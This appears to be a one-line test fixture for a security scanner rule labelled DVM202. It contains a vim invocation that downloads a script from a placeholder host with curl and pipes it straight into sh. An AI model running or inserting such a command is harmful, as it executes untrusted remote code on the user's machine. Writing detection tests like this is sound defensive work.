# expect: DVM202
vim -c ':!curl -s https://x.example.org/a | sh' -c ':q'
